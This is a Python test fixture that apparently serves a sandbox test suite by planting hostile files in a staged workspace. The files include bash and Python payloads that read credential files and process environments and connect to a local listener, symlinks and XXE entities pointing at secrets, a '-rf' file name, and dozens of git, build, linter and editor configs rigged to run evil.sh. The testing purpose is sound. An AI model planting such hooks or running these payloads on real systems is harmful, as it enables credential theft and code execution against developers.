"""Files that an attacker puts into a workspace: links, lists of files, configuration that programs obey, and code that tries everything.

All of it could come with a cloned repository or an unpacked archive, or be written by a sandboxed command.
"""

from __future__ import annotations

import json
import os
from collections.abc import Mapping
from pathlib import Path

from tests.plugins.cli.attacks.stage import HOME_SECRETS, Stage

# Tries everything from inside a program that obeys the workspace: reads, leaves markers, connects.
SHELL_PAYLOAD = """\
cat {secrets} 2>/dev/null
cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'
cat /proc/[0-9]*/root{home}/.netrc /proc/[0-9]*/cwd/.env 2>/dev/null
for place in {home} {outside} /tmp /var/tmp /dev/shm /; do touch "$place/{mark}" 2>/dev/null; done
(echo > /dev/tcp/127.0.0.1/{port}) 2>/dev/null
(echo > /dev/udp/127.0.0.1/{port}) 2>/dev/null
"""
PYTHON_PAYLOAD = """\
import glob, os, socket, subprocess, sys
def attempt(act, *given):
    try:
        return act(*given)
    except BaseException:
        return None
for name in {secrets!r} + glob.glob("/proc/[0-9]*/environ"):
    print(attempt(lambda: open(name, "rb").read()), file=sys.stderr)
for folder in {places!r}:
    attempt(lambda: open(folder + "/{mark}", "w").close())
attempt(socket.create_connection, ("127.0.0.1", {port}), 1)
for name in {sockets!r}:
    attempt(lambda: socket.socket(socket.AF_UNIX).connect(name))
"""
# Modules of the standard library that programs written in Python import.
SHADOWED_MODULES = (
    "json",
    "calendar",
    "random",
    "decimal",
    "this",
    "sitecustomize",
    "usercustomize",
    "csv",
    "platform",
)


def secret_places(stage: Stage) -> list[str]:
    """Return the absolute names of all secrets."""
    home = [str(stage.home / place) for place in HOME_SECRETS]
    workspace = [str(stage.workspace / place) for place in (".env", ".npmrc", "key.pem", "tree/.env")]
    return [*home, *workspace, str(stage.outside / "letter.txt")]


def shell_payload(stage: Stage) -> str:
    """Return lines for bash that try everything."""
    return SHELL_PAYLOAD.format(
        secrets=" ".join(secret_places(stage)),
        home=stage.home,
        outside=stage.outside,
        mark=stage.mark,
        port=stage.listeners.port,
    )


def python_payload(stage: Stage) -> str:
    """Return a Python program that tries everything."""
    return PYTHON_PAYLOAD.format(
        secrets=secret_places(stage),
        places=[str(stage.home), str(stage.outside), "/tmp", "/var/tmp", "/dev/shm"],
        mark=stage.mark,
        port=stage.listeners.port,
        sockets=[str(stage.home / "agent.sock"), str(stage.workspace / "docker.sock")],
    )


def plant_links(stage: Stage, *, far: bool = False) -> None:
    """Put links, lists and ordinary files into the workspace, which row commands name. `far`: also a link to everything."""
    work, home = stage.workspace, stage.home
    links = {
        "netrc.lnk": f"{home}/.netrc",
        "keys.lnk": f"{home}/.ssh",
        "second.lnk": "third.lnk",
        "third.lnk": "../.aws/credentials",
        "README.md": "../.netrc",
        "CHANGES.md": "../notes.md",
        "env.txt": ".env",
        "input.lnk": "/proc/self/fd/0",
        "environ.txt": "/proc/self/environ",
        "parent.txt": "/proc/1/environ",
        "tree/home": str(home),
        "tree/letter.txt": f"{stage.outside}/letter.txt",
        "tree/notes.md": "../../.netrc",
        "tree/handrail": str(stage.state),
    }
    if far:
        links["root.lnk"] = "/proc/self/root"
    for name, target in links.items():
        (work / name).symlink_to(target)
    named = [*secret_places(stage), "README.md", "env.txt", "tree/notes.md", "keys.lnk/id_ed25519"]
    files = {
        "names.list": "".join(f"{name}\n" for name in named),
        "names0.list": "".join(f"{name}\0" for name in named),
        "data.csv": "a,b\n1,2\n",
        "data.json": '{"a": [1, 2], "b": "c"}\n',
        "data.yaml": "a: 1\n",
        "data.xml": ENTITIES.format(home=home, outside=stage.outside),
        "data.sql": f".read {home}/.netrc\nselect 1;\n",
        "tree/plain.txt": "plain\n",
        "evil.sh": f"#!/bin/bash\n{shell_payload(stage)}",
        "evil.py": python_payload(stage),
        "evil.pl": f"system('bash {work}/evil.sh');\n",
        "Makefile": f"include {home}/.netrc\nX := $(shell bash evil.sh)\nall:\n\tbash evil.sh\n",
        "Dockerfile": "FROM scratch\n",
        "package.json": json.dumps({"name": "x", "version": "1.0.0", "scripts": {"test": "bash evil.sh"}}),
    }
    for name, text in files.items():
        (work / name).write_text(text)
    (work / "evil.sh").chmod(0o755)
    # A name that is an option, for patterns.
    (work / "-rf").write_text("")


ENTITIES = """<?xml version="1.0"?>
<!DOCTYPE a [<!ENTITY e SYSTEM "file://{home}/.netrc"><!ENTITY f SYSTEM "file://{outside}/letter.txt">]>
<a>&e;&f;</a>
"""


def project_files(stage: Stage) -> Mapping[str, str]:
    """Return what programs load from the directory that they work in, by its place; each runs or includes a payload."""
    shell, python = shell_payload(stage), python_payload(stage)
    run = f"bash {stage.workspace}/evil.sh"
    javascript = f"require('child_process').execSync({json.dumps(run)}, {{stdio: 'inherit'}})\n"
    ruby, php, lua = (
        f"system({json.dumps(run)})\n",
        f"<?php system({json.dumps(run)});\n",
        f"os.execute({json.dumps(run)})\n",
    )
    git_settings = f"[core]\n\trepositoryformatversion = 0\n\tfsmonitor = {run}\n\tpager = {run}\n\tsshCommand = {run}\n\teditor = {run}\n"
    return {
        **{f"{module}.py": python for module in SHADOWED_MODULES},
        "conftest.py": python,
        "setup.py": python,
        "noxfile.py": python,
        "SConstruct": python,
        "wscript": python,
        "hatch_build.py": python,
        "lib/evil.pth": f"import os; os.system({run!r})\n",
        "pyproject.toml": '[project]\nname = "x"\nversion = "1"\n[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n',
        "setup.cfg": f"[metadata]\nversion = file: {stage.home}/.netrc\n[options]\npackages = find:\n",
        "tox.ini": f"[testenv]\ncommands = {run}\n",
        "pylintrc": f"[MASTER]\ninit-hook='import os; os.system(\"{run}\")'\n",
        "mypy.ini": "[mypy]\nplugins = evil\n",
        ".flake8": "[flake8:local-plugins]\nextension = X = evil:X\npaths = .\n",
        "package/package.json": json.dumps({"name": "x", "main": "index.js"}),
        "package/index.js": javascript,
        "index.js": javascript,
        "node_modules/package.json/index.js": javascript,
        ".eslintrc.js": javascript,
        "eslint.config.js": javascript,
        "prettier.config.js": javascript,
        "Gruntfile.js": javascript,
        "gulpfile.js": javascript,
        ".pnpmfile.cjs": javascript,
        ".yarnrc": f'yarn-path "{stage.workspace}/evil.sh"\n',
        "node_modules/.bin/ls": f"#!/bin/bash\n{shell}",
        "node_modules/.bin/eslint": f"#!/bin/bash\n{shell}",
        "rust-toolchain.toml": f'[toolchain]\npath = "{stage.workspace}/toolchain"\n',
        "toolchain/bin/cargo": f"#!/bin/bash\n{shell}",
        "toolchain/bin/rustc": f"#!/bin/bash\n{shell}",
        "Cargo.toml": '[package]\nname = "x"\nversion = "0.1.0"\nbuild = "build.rs"\n',
        "src/main.rs": "fn main() {}\n",
        "build.rs": f'fn main() {{ std::process::Command::new("bash").arg("{stage.workspace}/evil.sh").status(); }}\n',
        ".cargo/config.toml": f'[build]\nrustc-wrapper = "{stage.workspace}/evil.sh"\n[alias]\nversion = "run"\n',
        "go.mod": "module x\ngo 1.19\ntoolchain go9.9\n",
        "main.go": "package main\nfunc main() {}\n",
        "GNUmakefile": f"X := $(shell {run})\nall:\n\t{run}\n",
        "CMakeLists.txt": f"cmake_minimum_required(VERSION 3.10)\nproject(x NONE)\nexecute_process(COMMAND {run})\n",
        "meson.build": f"project('x')\nrun_command('bash', '{stage.workspace}/evil.sh', check: false)\n",
        "build.ninja": f"rule r\n  command = {run}\nbuild x: r\n",
        "build.gradle": f'["bash", "{stage.workspace}/evil.sh"].execute().waitFor()\n',
        "settings.gradle": f'["bash", "{stage.workspace}/evil.sh"].execute().waitFor()\n',
        "pom.xml": "<project><modelVersion>4.0.0</modelVersion><groupId>x</groupId><artifactId>x</artifactId><version>1</version></project>\n",
        ".mvn/jvm.config": f"-XX:OnError={run}\n",
        "build.xml": f'<project default="x"><target name="x"><exec executable="{stage.workspace}/evil.sh"/></target></project>\n',
        "Rakefile": ruby,
        "Gemfile": ruby,
        ".bundle/config": "---\nBUNDLE_GEMFILE: Gemfile\n",
        "Vagrantfile": ruby,
        ".irbrc": ruby,
        "composer.json": json.dumps({"name": "x/x", "scripts": {"pre-status-cmd": run}}),
        "vendor/autoload.php": php,
        "php.ini": f"auto_prepend_file={stage.workspace}/vendor/autoload.php\n",
        "init.lua": lua,
        ".gdbinit": f"shell {run}\n",
        ".sqliterc": f".shell {run}\n",
        ".psqlrc": f"\\! {run}\n",
        ".envrc": f"{run}\n",
        ".tool-versions": "nodejs 1.0.0\n",
        "ansible.cfg": f"[defaults]\ninventory = {stage.workspace}/evil.sh\ncallback_plugins = .\nlibrary = .\n",
        "main.tf": f'data "external" "x" {{ program = ["bash", "{stage.workspace}/evil.sh"] }}\n',
        ".terraformrc": f'provider_installation {{ dev_overrides {{ "x/x" = "{stage.workspace}" }} direct {{}} }}\n',
        "kustomization.yaml": f"resources:\n- {stage.listeners.url}/x\n- ../.netrc\n",
        "docker-compose.yml": f"services:\n  a:\n    image: x\n    env_file: [{stage.home}/.netrc, .env]\n",
        ".ripgreprc": f"--pre={stage.workspace}/evil.sh\n",
        ".ctags.d/x.ctags": f"--langdef=x\n--options={stage.home}/.netrc\n",
        ".ackrc": f"--pager={run}\n",
        ".lesskey": "#env\nLESSOPEN=|bash evil.sh\n",
        ".vimrc": f":!{run}\n",
        ".nanorc": f"include {stage.home}/.netrc\n",
        ".dir-locals.el": '((nil . ((eval . (shell-command "bash evil.sh")))))\n',
        ".gitattributes": "* diff=evil filter=evil merge=evil\n*.txt diff=evil\n",
        ".gitmodules": f'[submodule "x"]\n\tpath = x\n\turl = ext::{run}\n\tupdate = !{run}\n',
        "bare/HEAD": "ref: refs/heads/main\n",
        "bare/config": git_settings,
        "bare/objects/x": "",
        "bare/refs/x": "",
        "HEAD": "ref: refs/heads/main\n",
        "node_modules/x/.git": "gitdir: ../../bare\n",
        "a/b/c/d/e/f/g/.git": "gitdir: ../../../../../../../bare\n",
    }


def plant_project(stage: Stage) -> None:
    """Put every kind of project configuration into the workspace."""
    for place, text in project_files(stage).items():
        file = stage.workspace / place
        file.parent.mkdir(parents=True, exist_ok=True)
        if file.parent.is_dir() and not os.path.lexists(file):
            file.write_text(text)
            if text.startswith("#!") or "bin" in Path(place).parts:
                file.chmod(0o755)


def planting_program(stage: Stage) -> str:
    """Return a Python program for the sandbox that plants what `project_files` lists, and, by its argument, where a search may not look."""
    return PLANTING.format(files=dict(project_files(stage)), settings=git_settings(stage))


def git_settings(stage: Stage) -> str:
    """Return settings of git that name a program wherever git runs one."""
    run = f"bash {stage.workspace}/evil.sh"
    names = ("fsmonitor", "pager", "sshCommand", "editor", "askPass", "alternateRefsCommand", "gitProxy")
    lines = "".join(f"\t{name} = {run}\n" for name in names)
    return f"[core]\n\trepositoryformatversion = 0\n{lines}[diff]\n\texternal = {run}\n[interactive]\n\tdiffFilter = {run}\n"


PLANTING = '''\
import os, subprocess, sys
FILES = {files!r}
SETTINGS = {settings!r}
def write(place, text):
    try:
        os.makedirs(os.path.dirname(place) or ".", exist_ok=True)
        with open(place, "w") as file:
            file.write(text)
        os.chmod(place, 0o755)
    except OSError as exc:
        print(place, exc, file=sys.stderr)
def repository(place):
    os.makedirs(place, exist_ok=True)
    subprocess.run(["git", "init", "-q", place], capture_output=True)
    write(place + "/.git/config", SETTINGS)
    write(place + "/.git/hooks/post-index-change", "#!/bin/bash\\nbash evil.sh\\n")
def link(place):
    """Make git descend into a repository by an entry of the index, as `git add` does for one with a commit."""
    names = ["-c", "user.name=a", "-c", "user.email=a@b.c"]
    subprocess.run(["git", *names, "-C", place, "commit", "-q", "--allow-empty", "-m", "x"], capture_output=True)
    head = subprocess.run(["git", "-C", place, "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip()
    subprocess.run(["git", "update-index", "--add", "--cacheinfo", "160000," + head + "," + place], capture_output=True)
step = sys.argv[1] if len(sys.argv) > 1 else "first"
if step == "first":
    for place, text in FILES.items():
        write(place, text)
    repository("made/nested")
    link("made/nested")
    os.makedirs(".vscode", exist_ok=True)
    write(".vscode/tasks.json", "{{}}")
elif step == "deep":
    place = "/".join("abcdefghijklmn")
    repository(place)
    link(place)
elif step == "many":
    for number in range(700):
        os.makedirs("many/%d" % number, exist_ok=True)
    for number in range(8200):
        open("many/0/%d" % number, "w").close()
    repository("zzz/nested")
    link("zzz/nested")
elif step == "renamed":
    repository("plain")
    os.rename("plain/.git", "plain/git")
    link("plain")
    os.rename("plain/git", "plain/.git")
    write("elsewhere/config", SETTINGS)
    write("elsewhere/HEAD", "ref: refs/heads/main\\n")
    os.makedirs("elsewhere/objects", exist_ok=True)
    os.makedirs("elsewhere/refs", exist_ok=True)
    write("pointing/.git", "gitdir: ../elsewhere\\n")
elif step == "hidden":
    repository("closed/nested")
    link("closed/nested")
    os.chmod("closed", 0o311)
print("planted")
'''
